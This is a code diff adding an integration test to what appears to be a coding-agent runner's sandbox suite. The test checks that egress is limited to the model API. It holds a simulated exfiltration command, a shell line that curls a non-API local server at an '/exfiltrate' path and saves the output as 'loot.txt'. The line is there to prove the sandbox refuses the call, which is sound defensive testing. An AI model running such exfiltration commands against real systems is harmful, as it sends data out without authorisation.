@@ -20,7 +20,7 @@ from tests.integration.test_pipeline import (
     prd,
     project_factory,
 )
-from worker.sandbox import Sandbox, SandboxMode, make_sandbox
+from worker.sandbox import Sandbox, SandboxMode, SandboxNetwork, make_sandbox
 from worker.state import RunResult, StoryState
 
 pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap not installed")
@@ -155,3 +155,40 @@ def test_a_private_key_or_its_base64_in_a_change_is_never_committed(
     assert third.outcome.value == "passed"
     pushed = git(project.remote, "log", "-p", "--all")
     assert "MIIEowIBAAKCAQEAu1SU1" not in pushed and "deploy/" not in pushed
+
+
+def test_a_run_with_egress_limited_reaches_the_model_api_only(
+    make_project: MakeProject, agent_io: Path, tmp_path: Path
+) -> None:
+    """REQDRIVE_SANDBOX_NETWORK=api through a whole run: the agent's call reaches the model's
+    API and is refused elsewhere; the checks pass without any network."""
+    from tests.integration.test_sandbox_egress import http_server
+
+    limited = make_sandbox(
+        SandboxMode.ON,
+        readonly=[Path(sys.prefix), Path(sys.base_prefix), SUPPORT],
+        network=SandboxNetwork.API,
+    )
+    assert limited is not None
+    project = make_project()
+    with http_server("api") as api, http_server("other") as other:
+        attack = (
+            "exec > loot.txt 2>&1; "
+            f"curl -s {api.url}/v1/messages; echo; "
+            f"curl -s {other.url}/exfiltrate; echo; "
+            "true"
+        )
+        data = {
+            "plan": [{"prd": prd(1)}],
+            "stories": {"US-001": [{**implement(1), "run": ["sh", "-c", attack]}]},
+        }
+        env = {"PATH": "/usr/bin:/bin", "ANTHROPIC_BASE_URL": api.url}
+        result = run(project, agent_io, limited.bind(writable=[agent_io]), data, source_env=env)
+
+    assert result.stories[0].state is StoryState.PASSED
+    commit = git(
+        project.remote, "show", "--text", "--format=", "reqdrive/req-001-demo", "--", "loot.txt"
+    )
+    assert "api answered /v1/messages" in commit
+    assert f"egress refused: GET 127.0.0.1:{other.url.rsplit(':', 1)[1]}" in commit
+    assert "/v1/messages" in api.paths and other.paths == []
